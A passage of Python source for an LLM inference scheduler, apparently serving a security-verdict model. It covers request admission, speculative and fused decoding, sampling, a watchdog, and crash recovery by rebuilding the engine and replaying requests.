        METRICS.gauge("sched_queue_depth", self._queue.qsize())
        return req

    def run_on_worker(self, fn, timeout: Optional[float] = 30.0):
        """Run ``fn()`` on the engine worker thread and return its
        result (migration export/import — anything that must touch the
        engine from an HTTP handler).  The closure runs between batches
        at the top of the worker loop; with the scheduler stopped (unit
        tests, pre-start import) it runs inline instead.  Exceptions
        propagate to the caller; a dead worker surfaces as TimeoutError
        rather than a hang."""
        if not self._running or self._thread is None:
            return fn()
        done = threading.Event()
        box: list = [None, None]  # [result, exception]

        def job():
            try:
                box[0] = fn()
            except BaseException as e:  # noqa: BLE001 — re-raised below
                box[1] = e
            finally:
                done.set()

        self._admin.put(job)
        self._wake.set()
        if not done.wait(timeout):
            raise TimeoutError("scheduler worker did not run admin job")
        if box[1] is not None:
            raise box[1]
        return box[0]

    def reload_params(self, params, reason: str = "tier_reload",
                      timeout: Optional[float] = 120.0) -> None:
        """Zero-downtime weight swap: install a new param tree and ride
        the crash-only rebuild+replay machinery (int8<->bf16 requant, a
        tier refresh).  Runs ON the worker thread between batches —
        params is a jit *argument*, so the swap is just an attribute
        store plus a rebuild (fresh cache/allocator/prefix cache; stale
        in-flight dispatches die on the epoch check).  Residents are
        replayed without being charged replay budget
        (``implicate_residents=False``): a planned reload is not their
        fault, and their pending sampled token is preserved so the
        continuation resumes exactly where the old weights left off."""
        def swap():
            self.engine.params = params
            self._rebuild_and_replay(reason, implicate_residents=False)
        self.run_on_worker(swap, timeout=timeout)
        log_event(LOG, "params_reloaded", reason=reason)

    def _drain_admin(self) -> bool:
        """Run queued admin closures (worker thread only)."""
        ran = False
        while True:
            try:
                job = self._admin.get_nowait()
            except queue.Empty:
                return ran
            job()
            ran = True

    def queue_depth(self) -> int:
        """Requests waiting for a slot (the admission-control signal)."""
        return self._queue.qsize()

    def set_spec_brownout(self, level: int) -> None:
        """Degradation-ladder hook (fleet/degrade.py): 0 = normal spec,
        1 = drafts capped at the adaptive floor, 2 = spec off.  A no-op
        when spec decoding is not configured; safe to call from the
        server's admission path (one attribute store, no locks)."""
        if self._spec is not None:
            self._spec.set_brownout(level)

    def inflight_count(self) -> int:
        """Queued + actively decoding (the graceful-drain signal)."""
        return self._queue.qsize() + len(self._slots)

    @property
    def healthy(self) -> bool:
        """False while the serving core is rebuilding/replaying — the
        /healthz/ready not-ready window."""
        return self._healthy

    def start(self):
        if getattr(self.engine, "fused_enabled", False):
            # no-op unless EngineConfig.staged_warmup: background-compile
            # the fused graph while per-step decode serves (cold-start
            # fix — the r4 fused compile blocked first-token for 3159 s)
            self.engine.start_fused_warmup()
        self._running = True
        self._spawn_worker()
        if self.cfg.watchdog_interval_s > 0:
            self._supervisor = threading.Thread(
                target=self._supervise, daemon=True, name="chronos-watchdog"
            )
            self._supervisor.start()

    def _spawn_worker(self):
        if not self._running:
            return  # supervisor racing stop(): don't resurrect the loop
        self._thread = threading.Thread(
            target=self._loop, daemon=True, name="chronos-sched"
        )
        self._last_progress = time.monotonic()
        self._thread.start()

    def stop(self):
        self._running = False
        self._wake.set()
        self._stop_evt.set()
        if self._thread:
            try:
                self._thread.join(timeout=10)
            except RuntimeError:
                pass  # supervisor respawned it mid-stop, pre-start
        if self._supervisor:
            self._supervisor.join(timeout=10)

    def warmup(self):
        """Compile prefill (smallest bucket) + decode before serving, so
        the first real request doesn't eat compile time — the reference's
        first verdict timed out exactly this way (SURVEY.md §6)."""
        req = self.submit("warmup", GenOptions(max_new_tokens=2))
        req.result(timeout=self.cfg.warmup_timeout_s)
        self.warmed = True

    # ---- worker loop ---------------------------------------------------
    def _loop(self):
        """Crash-only worker: engine poisoning is healed inline
        (rebuild + replay); a superseded iteration (the watchdog
        replaced this thread after a stall) exits without touching
        shared state; anything else unwinds the thread and the
        supervisor restarts it.  ``except Exception`` is deliberately
        absent — an unclassified error means unknown host state, and
        limping along corrupts; dying and being restarted (with the
        engine rebuilt) does not (Candea & Fox, HotOS'03)."""
        me = threading.current_thread()
        while self._running and self._thread is me:
            try:
                progressed = self._drain_admin()
                progressed = self._admit() or progressed
                if self._slots:
                    self._decode_step()
                    progressed = True
                self._last_progress = time.monotonic()
                if not progressed:
                    self._wake.wait(timeout=0.05)
                    self._wake.clear()
            except EngineSuperseded:
                # our in-flight dispatch straddled a watchdog rebuild:
                # the result was discarded by the engine; this thread
                # has been replaced — exit without touching state
                log_event(LOG, "worker_superseded")
                return
            except EnginePoisoned as e:
                if self._thread is not me:
                    return  # stale thread must not heal over the new one
                self._rebuild_and_replay(str(e), implicate_residents=True)

    def _supervise(self):
        """Watchdog: detects a dead worker thread (restart with the
        engine rebuilt and survivors replayed — zero lost requests) and
        a stalled decode (no step completion within heartbeat_timeout_s
        while work is pending: abandon the wedged thread, rebuild,
        respawn).  Flips ``healthy`` (the /healthz/ready signal) around
        every recovery."""
        interval = self.cfg.watchdog_interval_s
        while self._running:
            self._stop_evt.wait(interval)
            if not self._running:
                return
            t = self._thread
            if t is None:
                continue
            if not t.is_alive():
                METRICS.inc("watchdog_worker_deaths")
                log_event(LOG, "worker_died", slots=len(self._slots))
                self._rebuild_and_replay("worker thread died",
                                         implicate_residents=True)
                self._spawn_worker()
                log_event(LOG, "worker_restarted")
                continue
            # stall detection: gated on warmed so a legitimate cold
            # compile (minutes on trn) can never trip it
            busy = bool(self._slots) or not self._queue.empty()
            stalled_s = time.monotonic() - self._last_progress
            if (
                self.warmed
                and busy
                and self._healthy
                and stalled_s > self.cfg.heartbeat_timeout_s
            ):
                METRICS.inc("watchdog_stalls")
                log_event(LOG, "watchdog_stall",
                          stalled_s=round(stalled_s, 2),
                          slots=len(self._slots))
                # abandon the wedged thread: the engine rebuild bumps
                # the epoch, so if its dispatch ever returns it raises
                # EngineSuperseded instead of committing stale state
                self._rebuild_and_replay("decode stalled",
                                         implicate_residents=True)
                self._spawn_worker()
                log_event(LOG, "worker_restarted")

    def _admit(self) -> bool:
        admitted = False
        while not self._queue.empty():
            slot = self.engine.free_slot()
            if slot is None:
                break
            try:
                req = self._queue.get_nowait()
            except queue.Empty:
                break
            if req.cancelled.is_set():
                # client went away while queued: never occupy a slot
                req.error = "cancelled"
                req.deltas.put(None)
                req.done.set()
                METRICS.inc("requests_cancelled")
                continue
            if req.deadline is not None and time.monotonic() > req.deadline:
                # expired while queued: drop before burning prefill —
                # the client already gave up (or will the instant we
                # answer), so decoding for it only starves live work
                req.error = "deadline exceeded before admission"
                req.deltas.put(None)
                req.done.set()
                METRICS.inc("requests_deadline_expired")
                log_event(
                    LOG, "deadline_expired",
                    queued_s=round(time.monotonic() - req.submitted_at, 3),
                )
                continue
            seq_id = None
            t_pop = time.monotonic()
            try:
                ids = self.tok.encode(req.prompt, bos=True)
                # clamp absurd prompts (keep the tail — recent events
                # matter most for kill chains) and absurd budgets so the
                # sequence can never outgrow max_context
                max_ctx = self.engine.ccfg.max_context
                # prompt gets priority over generation budget (kill-chain
                # context matters most): reserve only a bounded slice of
                # context for generation when both can't fit, so a huge
                # num_predict can't silently destroy the prompt
                desired_new = max(1, req.options.max_new_tokens)
                reserve = min(desired_new, max(1, max_ctx // 4))
                max_prompt = max(16, max_ctx - reserve - 1)
                if len(ids) > max_prompt:
                    # keep BOS (Llama-3 quality degrades without
                    # <|begin_of_text|>) + the tail: recent events matter
                    # most for kill chains
                    head = ids[:1] if self.tok.bos_id is not None and ids and ids[0] == self.tok.bos_id else []
                    ids = head + ids[-(max_prompt - len(head)):]
                max_new = min(desired_new, max(1, max_ctx - len(ids) - 1))
                if not self.engine.can_admit(len(ids), token_ids=ids):
                    # not enough pages right now (counting pages a cached
                    # prefix would share): push back, retry later
                    self._queue.put(req)
                    break
                seq_id = self._next_seq
                self._next_seq += 1
                self.engine.occupy(slot, seq_id)
                t_pf0 = time.monotonic()
                logits = self.engine.prefill_seq(seq_id, ids)
                t_pf1 = time.monotonic()
                req.prompt_eval_count = len(ids)
                # ---- semcache tier-0: consult before decode starts ----
                # The prefill above already ran (its hidden states ARE
                # the embedding), so a hit saves the decode loop and any
                # 8B escalation, not the prefill.  last_pooled is None
                # on prefix-cache-hit prefills — those skip tier-0.
                pooled = getattr(self.engine, "last_pooled", None)
                if self.semcache is not None and pooled is not None:
                    decision = self.semcache.lookup(pooled)
                    req.sem_score = decision.top_score
                    req.sem_agree = decision.agree
                    req.sem_escalate = decision.malicious_adjacent
                    if decision.hit:
                        self._finish_semcache_hit(req, seq_id, decision,
                                                  t_pf0, t_pf1)
                        admitted = True
                        continue
                state = _SlotState(seq_id, req, self.tok, next_token=0,
                                   max_new=max_new, prompt_ids=ids)
                state.embedding = pooled
                if state.constrainer is not None and self.engine.has_dfa:
                    state.dfa_state = self.engine.dfa_initial
                if self._spec is not None:
                    state.spec = self._spec.new_state(ids)
                nxt = self._sample(state, logits)
                state.next_token = nxt
                req.ttft_s = time.monotonic() - req.submitted_at
                # split TTFT by prefix-cache outcome: hit and miss
                # requests have wildly different latency shapes, one
                # aggregate hides both
                pf_info = getattr(self.engine, "last_prefill_info", None) or {}
                hit_tokens = int(pf_info.get("cache_hit_tokens", 0))
                cache_lbl = "hit" if hit_tokens > 0 else "miss"
                METRICS.observe("ttft_s", req.ttft_s,
                                labels={"cache": cache_lbl})
                if req.trace is not None:
                    tid, parent = req.trace
                    TRACER.record("sched.queue_wait", tid, parent,
                                  req.submitted_at, t_pop)
                    TRACER.record("sched.admission", tid, parent, t_pop,
                                  t_pf0, attrs={"prompt_tokens": len(ids),
                                                "seq_id": seq_id})
                    TRACER.record(
                        "sched.prefill", tid, parent, t_pf0, t_pf1,
                        attrs={
                            "cache": cache_lbl,
                            "cache_hit_tokens": hit_tokens,
                            "cache_miss_tokens": int(pf_info.get(
                                "cache_miss_tokens", len(ids) - hit_tokens)),
                            "prompt_tokens": len(ids),
                        },
                    )
                self._slots[slot] = state
                admitted = True
            except EngineSuperseded:
                raise  # stale worker: unwind to _loop, exit silently
            except EnginePoisoned as e:
                # the admitting request's prefill poisoned the cache —
                # attribution is unambiguous here, so residents are NOT
                # implicated: requeue (or quarantine) the offender, then
                # rebuild and replay everyone who was already decoding
                if req.replays >= self.cfg.max_replays:
                    self._quarantine(req, str(e))
                else:
                    req.replays += 1
                    self._queue.put(req)
                self._rebuild_and_replay(str(e), implicate_residents=False)
                break
            except PageAllocator.OutOfPages:
                # admission peeked yes but allocate said no.  The peek
                # and the pool agree when nothing runs between them
                # (single worker thread), so this is the defensive path
                # for any residual drift: free the slot and requeue
                # exactly like the can_admit-False path — an optimistic
                # admission degrades to retry, never to a failed request
                # or a dead worker
                if seq_id is not None:
                    self._release_quietly(seq_id)
                self._queue.put(req)
                METRICS.inc("admit_out_of_pages_requeued")
                log_event(LOG, "admit_out_of_pages", requeued=True)
                break
            except Exception as e:  # fail this request, keep serving
                req.error = f"{type(e).__name__}: {e}"
                req.deltas.put(None)
                req.done.set()
                log_event(LOG, "admit_failed", error=req.error)
                if seq_id is not None:
                    self._release_quietly(seq_id)
        METRICS.gauge("sched_queue_depth", self._queue.qsize())
        return admitted

    def _append_pending(self, st: _SlotState):
        """Commit st.next_token into the output (and grammar state)."""
        st.out_ids.append(st.next_token)
        if st.constrainer is not None:
            st.constrainer.advance(st.next_token)

    def _decode_step(self):
        feed = {}
        for slot, st in list(self._slots.items()):
            # cancellation (client disconnect) frees the slot + pages at
            # the step/chunk boundary instead of decoding to completion
            if st.req.cancelled.is_set():
                self._cancel_slot(slot, st)
                continue
            # the sampled token might already be a stop token (e.g. empty
            # JSON or instant EOS after prefill)
            if self._check_stop(slot, st, st.next_token):
                continue
            if len(st.out_ids) + 1 >= st.max_new:
                # budget ends with the pending token: no decode needed
                self._append_pending(st)
                self._finish(slot, st, truncated=True)
                continue
            if self.engine.seq_len(st.seq_id) + 1 > self.engine.ccfg.max_context:
                self._append_pending(st)
                self._finish(slot, st, truncated=True)
                continue
            feed[slot] = st.next_token
        if not feed:
            return
        if self._can_fuse(feed):
            self._decode_chunk_fused(feed)
            return
        if self._spec is not None:
            drafts = self._build_drafts(feed)
            if drafts:
                self._decode_step_spec(feed, drafts)
                return
            # nobody drafted anything (cold streams, tiny budgets):
            # a width-W verify of 1-token windows would just be a padded
            # decode step — take the plain path instead
        self._decode_step_plain(feed)

    def _decode_step_plain(self, feed):
        t_d0 = time.monotonic()
        try:
            logits_by_slot = self.engine.decode(feed)
        except PageAllocator.OutOfPages:
            # pressure: finish the longest-running slot early (truncated).
            # No slot's out_ids/constrainer was touched yet (pending tokens
            # commit only after a successful decode), so survivors simply
            # retry the same step next loop.
            victim = max(feed, key=lambda s: len(self._slots[s].out_ids))
            log_event(LOG, "page_pressure_truncate", slot=victim)
            self._finish(victim, self._slots[victim], truncated=True)
            return
        t_d1 = time.monotonic()
        # one decode-step span per *traced* request per batch step: the
        # device dispatch is timed once, untraced slots pay nothing
        for slot in feed:
            st = self._slots.get(slot)
            if st is not None and st.req.trace is not None:
                TRACER.record(
                    "sched.decode_step", st.req.trace.trace_id,
                    st.req.trace.span_id, t_d0, t_d1,
                    attrs={"batch": len(feed), "tokens": 1},
                )
        # decode succeeded: NOW commit each fed token exactly once.
        # Host-side per-slot work (grammar advance, sampling, stream
        # flush) is CONTAINED: a NaN row or grammar exception fails that
        # slot's request with a structured error and frees its pages —
        # batch-mates never see it (vLLM-style request-level isolation).
        for slot in feed:
            st = self._slots[slot]
            try:
                self._append_pending(st)
            except Exception as e:
                self._fail_slot(slot, st, e)
        for slot, logits in logits_by_slot.items():
            st = self._slots.get(slot)
            if st is None:
                continue
            try:
                st.req.eval_count += 1
                st.next_token = self._sample(st, logits)
                self._stream_flush(st)
            except Exception as e:
                self._fail_slot(slot, st, e)

    # ---- speculative decode --------------------------------------------
    def _build_drafts(self, feed) -> Dict[int, Draft]:
        """Ask the proposers for each fed slot's draft tree.  Returns
        slot -> Draft; slots that drafted nothing are absent.  The
        budget keeps the whole window inside the slot's remaining token
        budget and context: committing every accepted token must leave
        the loop-head budget check in the SAME place the plain path
        would reach it, or truncation points (and therefore outputs)
        diverge between spec on and off."""
        W = self.engine._spec_W
        max_ctx = self.engine.ccfg.max_context
        drafts: Dict[int, Draft] = {}
        for slot, pending in feed.items():
            st = self._slots[slot]
            if st.spec is None:
                continue
            budget = min(
                W - 1,
                # out_ids + fed pending + accepted drafts stays < max_new
                # so the final pending commit lands exactly at the plain
                # path's truncation point.  Tree siblings share depth, so
                # bounding NODES (window width) also bounds the accepted
                # path length.
                st.max_new - len(st.out_ids) - 2,
                # window positions [pos, pos+1+k) must fit the context
                max_ctx - self.engine.seq_len(st.seq_id) - 1,
            )
            if budget <= 0:
                continue
            t0 = time.monotonic()
            draft = self._spec.propose(
                st.spec, st.prompt_ids, st.out_ids, pending, budget,
                constrained=st.constrainer is not None,
            )
            if draft.n_drafted == 0:
                continue
            drafts[slot] = draft
            if st.req.trace is not None:
                counts: Dict[str, int] = {}
                for who in draft.who[1:]:
                    counts[who] = counts.get(who, 0) + 1
                TRACER.record(
                    "sched.draft", st.req.trace.trace_id,
                    st.req.trace.span_id, t0, time.monotonic(),
                    attrs={
                        "tokens": draft.n_drafted,
                        "proposers": ",".join(
                            f"{name}:{n}" for name, n in counts.items()
                        ),
                    },
                )
        return drafts

    def _decode_step_spec(self, feed, drafts):
        """One draft-and-verify round, batched across slots: every fed
        slot rides ONE verify dispatch (draftless slots as width-1
        windows — for them it is a decode step), each slot's host
        acceptance walk picks a root-to-node path through its draft
        tree, and ONE donated commit dispatch (engine.spec_commit)
        scatters exactly the accepted paths' K/V — verify wrote nothing,
        so there is no rollback.  Greedy output bytes are identical to
        the plain path by construction: every committed token passes
        through the same sampling pipeline (NaN containment, JSON
        constrainer, stop handling) against the same logits a sequential
        decode would have produced."""
        windows: Dict[int, object] = {}
        for slot in feed:
            if slot in drafts:
                d = drafts[slot]
                windows[slot] = (d.tokens, d.parents)
            else:
                windows[slot] = [feed[slot]]
        t_d0 = time.monotonic()
        try:
            res = self.engine.spec_verify(windows)
        except PageAllocator.OutOfPages:
            # same pressure valve as the plain path: nothing was
            # committed (verify pre-checks the FULL window demand before
            # touching anything), so survivors retry the same step
            victim = max(feed, key=lambda s: len(self._slots[s].out_ids))
            log_event(LOG, "page_pressure_truncate", slot=victim)
            self._finish(victim, self._slots[victim], truncated=True)
            return
        t_d1 = time.monotonic()
        accepts: Dict[int, list] = {}
        walked: Dict[int, tuple] = {}
        for slot, (vals, idx) in res.items():
            st = self._slots.get(slot)
            if st is None:
                continue
            try:
                draft = drafts.get(slot)
                if draft is None:
                    draft = Draft(feed[slot])
                path, new_pending = self._spec_walk_slot(
                    st, draft, vals, idx
                )
                accepts[slot] = path
                walked[slot] = (st, draft, path, new_pending)
            except Exception as e:
                # containment: a NaN row / grammar failure fails THIS
                # request; _fail_slot releases its sequence and the
                # batched commit below simply skips the slot
                if slot in self._slots:
                    self._fail_slot(slot, st, e)
        # land every accepted path in one donated dispatch.  Host state
        # (out_ids, constrainer) is already advanced: if the commit
        # dispatch poisons the engine, rebuild+replay re-prefills from
        # out_ids — the same recovery contract as the plain path.
        self.engine.spec_commit(accepts)
        committed_total = 0
        for slot, (st, draft, path, new_pending) in walked.items():
            st.next_token = new_pending
            committed_total += len(path)
            self._spec_finalize_slot(
                st, draft, path, t_d0, t_d1, batch=len(windows)
            )
        if windows:
            METRICS.gauge(
                "spec_tokens_per_step", committed_total / len(windows)
            )

    def _spec_walk_slot(self, st, draft: Draft, vals, idx):
        """Acceptance walk for one slot's draft tree; returns
        ``(path, new_pending)`` where ``path`` is the accepted window-
        node index sequence (starting at node 0, the fed pending token)
        and ``new_pending`` the next pending token.  Window node i's
        top-K predicts the token AFTER node i given node i's ancestor
        path, so the walk starts at the root, commits it (the plain
        path's post-decode commit), and descends while a child is
        (greedy) the very token sampling produces or (stochastic)
        accepted by Leviathan min(1, p/q) sequential rejection across
        the sibling candidates — either way the emitted stream is
        distributed exactly as the plain path's."""
        toks = draft.tokens
        kids_of = draft.children()
        stochastic = (
            st.req.options.temperature > 0
            and self.cfg.spec_acceptance == "stochastic"
        )
        self._append_pending(st)
        path = [0]
        node = 0
        new_pending = None
        while new_pending is None:
            st.req.eval_count += 1
            kids = kids_of[node]
            if not stochastic:
                g = self._sample(st, (vals[node], idx[node]))
                nxt = None
                for k in kids:
                    # stop tokens are never committed — they become
                    # pending so the loop-head stop check finishes the
                    # request the same way the plain path does
                    if toks[k] == g and g not in self.tok.stop_ids:
                        nxt = k
                        break
                if nxt is None:
                    new_pending = g
                    break
            else:
                cand = self._candidates(st, (vals[node], idx[node]))
                if cand is None:  # constrainer complete: forced stop
                    new_pending = next(iter(self.tok.stop_ids))
                    break
                probs, cidx = self._dist(st, *cand)
                kid_pos = []
                for k in kids:
                    if toks[k] in self.tok.stop_ids:
                        kid_pos.append(-1)  # never committed (see above)
                    else:
                        hit = np.nonzero(cidx == toks[k])[0]
                        kid_pos.append(int(hit[0]) if hit.size else -1)
                winner, residual = accept_candidates(
                    probs, kid_pos, st.rng
                )
                if winner < 0:
                    # all candidates rejected: the replacement comes
                    # from the residual (p minus the rejected mass,
                    # renormalized) — total emitted distribution is
                    # exactly p (spec.accept docstring)
                    if residual is None:
                        residual = probs
                    new_pending = int(
                        cidx[int(st.rng.choice(len(residual), p=residual))]
                    )
                    break
                nxt = kids[winner]
            st.next_token = toks[nxt]
            self._append_pending(st)
            path.append(nxt)
            node = nxt
        return path, new_pending

    def _spec_finalize_slot(self, st, draft: Draft, path, t_d0, t_d1,
                            batch) -> None:
        """Adaptation + metrics + stream flush after a committed walk."""
        drafted = draft.n_drafted
        accepted = len(path) - 1
        if drafted:
            # adapt on DEPTH reached vs. best reachable depth: sibling
            # count measures breadth, and shrinking the draft length
            # because one of two branch guesses lost would starve the
            # winner's forced run
            self._spec.record(st.spec, draft.max_depth(), accepted)
            # per-node attribution: "grammar runs always land" stays
            # separable from "chains stopped repeating"
            drafted_by: Dict[str, int] = {}
            for who in draft.who[1:]:
                drafted_by[who] = drafted_by.get(who, 0) + 1
            accepted_by: Dict[str, int] = {}
            for n in path[1:]:
                who = draft.who[n]
                accepted_by[who] = accepted_by.get(who, 0) + 1
            for name, n in drafted_by.items():
                take = accepted_by.get(name, 0)
                METRICS.inc(
                    "spec_drafted_tokens_total", n,
                    labels={"proposer": name},
                )
                METRICS.inc(
                    "spec_accepted_tokens_total", take,
                    labels={"proposer": name},
                )
                METRICS.observe(
                    "spec_accept_rate", take / n,
                    labels={"proposer": name},
                )
        if st.req.trace is not None:
            TRACER.record(
                "sched.verify", st.req.trace.trace_id,
                st.req.trace.span_id, t_d0, t_d1,
                attrs={
                    "batch": batch,
                    "drafted": drafted,
                    "accepted": accepted,
                },
            )
        self._stream_flush(st)

    # ---- fused decode --------------------------------------------------
    def _can_fuse(self, feed) -> bool:
        if not getattr(self.engine, "fused_enabled", False):
            return False
        if not self.engine.fused_ready:
            # staged warmup still compiling in the background: serve
            # per-step now, migrate to fused at a later chunk boundary
            return False
        # constrained slots ride the fused path only when the device DFA
        # is installed; otherwise the whole round falls back to per-step
        # host masking (one decode graph per round)
        if any(
            self._slots[s].constrainer is not None for s in feed
        ) and not self.engine.has_dfa:
            return False
        return True

    def _decode_chunk_fused(self, feed):
        """One fused chunk: up to engine decode_chunk tokens per slot in a
        single device dispatch, sampling (and the JSON grammar automaton,
        when installed) on device.  The host sees sampled ids only."""
        samp, dfa_states = {}, {}
        use_dfa = self.engine.has_dfa
        for slot in feed:
            st = self._slots[slot]
            o = st.req.options
            # device may FEED at most budget-1 tokens: the post-chunk
            # pending commit brings the total to exactly max_new
            samp[slot] = (
                o.temperature, o.top_p, st.device_seed,
                st.max_new - len(st.out_ids) - 1,
            )
            if use_dfa:
                dfa_states[slot] = st.dfa_state
        t_d0 = time.monotonic()
        try:
            out_by_slot, done_by_slot, state_by_slot = self.engine.decode_fused(
                feed, samp, dfa_states if use_dfa else None
            )
        except PageAllocator.OutOfPages:
            victim = max(feed, key=lambda s: len(self._slots[s].out_ids))
            log_event(LOG, "page_pressure_truncate", slot=victim)
            self._finish(victim, self._slots[victim], truncated=True)
            return
        t_d1 = time.monotonic()
        for slot in feed:
            st = self._slots.get(slot)
            if st is not None and st.req.trace is not None:
                TRACER.record(
                    "sched.decode_step", st.req.trace.trace_id,
                    st.req.trace.span_id, t_d0, t_d1,
                    attrs={"batch": len(feed), "fused": True,
                           "tokens": len(out_by_slot.get(slot, ()))},
                )
        for slot, outs in out_by_slot.items():
            st = self._slots.get(slot)
            if st is None:
                continue
            try:
                self._fused_commit_slot(slot, st, outs, done_by_slot,
                                        state_by_slot, use_dfa)
            except Exception as e:
                # grammar/stream failure stays contained to this slot
                if slot in self._slots:
                    self._fail_slot(slot, st, e)

    def _fused_commit_slot(self, slot, st, outs, done_by_slot,
                           state_by_slot, use_dfa):
        """Per-slot host work after one fused chunk; exceptions are
        contained to this slot by the caller."""
        outs = [int(t) for t in outs]
        if use_dfa:
            st.dfa_state = state_by_slot[slot]
        st.req.eval_count += len(outs)
        # fed tokens: the pending token + all but the last output —
        # commit them; the last output is the new pending token
        for t in [st.next_token] + outs[:-1]:
            st.next_token = t
            self._append_pending(st)
        last = outs[-1]
        st.next_token = last
        if last in self.tok.stop_ids:
            self._finish(slot, st)  # stop tokens never join the text
            return
        committed_last = False
        if (
            st.constrainer is not None
            and done_by_slot[slot]
            and len(st.out_ids) < st.max_new
        ):
            # the closing token of a completed JSON is `last` (the
            # device DFA stops one step earlier than the host path):
            # commit it if budget allows, then finish
            self._append_pending(st)
            committed_last = True
            if st.constrainer.complete:
                self._finish(slot, st)
                return
        if len(st.out_ids) + (0 if committed_last else 1) >= st.max_new:
            if not committed_last:
                self._append_pending(st)
            self._finish(slot, st, truncated=True)
            return
        if done_by_slot[slot]:
            # device stopped feeding (capacity); surface as truncation
            if not committed_last:
                self._append_pending(st)
            self._finish(slot, st, truncated=True)
            return
        self._stream_flush(st)

    # ---- helpers -------------------------------------------------------
    def _candidates(self, st: _SlotState, logits):
        """Candidate extraction half of sampling: accepts either full
        logits [vocab] (prefill) or a sparse (values [K], token_ids [K])
        pair (decode top-k path — only top-K candidates cross the device
        boundary; sampling is therefore top-K-truncated, which composes
        with top_p and the JSON mask).  Returns ``(vals, idx)`` after
        NaN containment and constrainer filtering, or ``None`` when the
        constrainer is complete (caller must force a stop token)."""
        if isinstance(logits, tuple):
            vals, idx = logits
            vals = np.array(vals, dtype=np.float32)
            idx = np.asarray(idx)
        else:
            lg = np.asarray(logits, dtype=np.float32)
            k = min(self.cfg.logits_top_k, lg.shape[-1])
            part = np.argpartition(lg, -k)[-k:]
            vals, idx = lg[part], part
        # containment guard: NaN logits must fail THIS request (argsort
        # places NaN first; rng.choice raises mid-batch), and an all
        # -inf row has nothing to sample.  np.argmax would otherwise
        # silently pick the NaN's index — a garbage token, undetected.
        if np.isnan(vals).any():
            raise NonFiniteLogits("NaN in logits")
        if not np.isfinite(vals).any():
            raise NonFiniteLogits("no finite logit candidate")
        if st.constrainer is not None:
            if st.constrainer.complete:
                return None  # force stop
            vals, idx = st.constrainer.filter_candidates(vals, idx)
        return vals, idx

    def _dist(self, st: _SlotState, vals, idx):
        """Distribution half of sampling: temperature scale, sort
        descending, softmax, nucleus truncation.  Returns ``(probs,
        idx)`` aligned arrays — the exact distribution ``_sample`` draws
        from, exposed so the stochastic-acceptance walk can run
        Leviathan rejection against it."""
        opts = st.req.options
        vals = vals / opts.temperature
        order = np.argsort(vals)[::-1]
        vals, idx = vals[order], idx[order]
        probs = _softmax(vals)
        if opts.top_p < 1.0:
            cum = np.cumsum(probs)
            cutoff = max(1, int(np.searchsorted(cum, opts.top_p) + 1))
            probs = probs[:cutoff] / probs[:cutoff].sum()
            idx = idx[:cutoff]
        return probs, idx

    def _sample(self, st: _SlotState, logits) -> int:
        """Sample one token from full logits or a sparse top-K pair —
        ``_candidates`` then (greedy argmax | ``_dist`` + draw)."""
        cand = self._candidates(st, logits)
        if cand is None:
            return next(iter(self.tok.stop_ids))  # force stop
        vals, idx = cand
        if st.req.options.temperature <= 0:
            return int(idx[int(np.argmax(vals))])
        probs, idx = self._dist(st, vals, idx)
        return int(idx[int(st.rng.choice(len(probs), p=probs))])

    def _check_stop(self, slot: int, st: _SlotState, token: int) -> bool:
        if token in self.tok.stop_ids:
            self._finish(slot, st)
            return True
        if st.constrainer is not None and st.constrainer.complete:
            self._finish(slot, st)
            return True
        return False

    def _stream_flush(self, st: _SlotState):
        """Emit decoded-so-far suffix as a stream delta (UTF-8 safe: only
        flush up to the last fully decodable byte)."""
        if st.emitted_upto >= len(st.out_ids):
            return
        t0 = time.monotonic()
        text = self.tok.decode(st.out_ids)
        prev = self.tok.decode(st.out_ids[: st.emitted_upto])
        delta = text[len(prev) :]
        if delta and not delta.endswith("�"):
            st.req.deltas.put(delta)
            st.emitted_upto = len(st.out_ids)
            if st.req.trace is not None:
                TRACER.record(
                    "sched.stream_write", st.req.trace.trace_id,
                    st.req.trace.span_id, t0, time.monotonic(),
                    attrs={"chars": len(delta)},
                )

    # ---- self-healing --------------------------------------------------
    def _release_quietly(self, seq_id: int) -> None:
        """Best-effort slot/page release on a failure path.  The failure
        being handled is the real signal, so a release error must not
        replace it — but it is LOGGED, never swallowed (chronoslint
        CHR005): a failed release means pages stay leaked until the
        next rebuild, which operators need to see."""
        try:
            self.engine.release(seq_id)
        except Exception as e:
            METRICS.inc("release_failures")
            log_event(LOG, "release_failed", seq_id=seq_id,
                      error=f"{type(e).__name__}: {e}")

    def _fail_slot(self, slot: int, st: _SlotState, exc: Exception):
        """Slot-level containment exit: fail ONE request with a
        structured error, free its slot and pages, keep the batch."""
        st.req.error = f"slot_failure: {type(exc).__name__}: {exc}"
        st.req.error_kind = "slot_failure"
        METRICS.inc("slot_failures")
        METRICS.observe("verdict_latency_s",
                        time.monotonic() - st.req.submitted_at,
                        labels={"outcome": "error"})
        log_event(LOG, "slot_failure", slot=slot,
                  generated=len(st.out_ids), error=st.req.error)
        self._release_quietly(st.seq_id)
        self._slots.pop(slot, None)
        st.req.deltas.put(None)
        st.req.done.set()

    def _quarantine(self, req: Request, reason: str):
        """Poison-request exit: a request that keeps crashing the engine
        across ``max_replays`` rebuilds is failed permanently with a
        distinct error so one bad input cannot restart-loop the server."""
        req.error = (
            f"quarantined: request crashed the engine after "
            f"{req.replays} replays ({reason})"
        )
        req.error_kind = "quarantined"
        METRICS.inc("requests_quarantined")
        METRICS.observe("verdict_latency_s",
                        time.monotonic() - req.submitted_at,
                        labels={"outcome": "quarantined"})
        log_event(LOG, "request_quarantined",
                  replays=req.replays, reason=reason)
        req.deltas.put(None)
        req.done.set()

    def _replay_slot(self, st: _SlotState) -> None:
        """Re-admit one surviving request into the rebuilt engine by
        re-prefilling prompt + committed output.  The pending (sampled,
        not yet fed) token is preserved, so the continuation is exactly
        the pre-crash stream — clients see a latency blip, never a
        divergent or restarted text.  With a prefix cache the replay
        rides it like any prefill: the first survivor repopulates the
        (rebuild-fresh) cache and the rest reuse its chunks, so a full
        batch no longer pays N complete re-prefills of a shared
        preamble.  Raises EnginePoisoned if THIS replay crashes the
        engine again (caller attributes it)."""
        req = st.req
        if req.cancelled.is_set():
            req.error = "cancelled"
            METRICS.inc("requests_cancelled")
            req.deltas.put(None)
            req.done.set()
            return
        if req.deadline is not None and time.monotonic() > req.deadline:
            req.error = "deadline exceeded during engine rebuild"
            METRICS.inc("requests_deadline_expired")
            req.deltas.put(None)
            req.done.set()
            return
        slot = self.engine.free_slot()
        if slot is None:  # cannot happen right after a rebuild
            raise RuntimeError("no free slot during replay")
        ids = st.prompt_ids + st.out_ids
        seq_id = self._next_seq
        self._next_seq += 1
        self.engine.occupy(slot, seq_id)
        try:
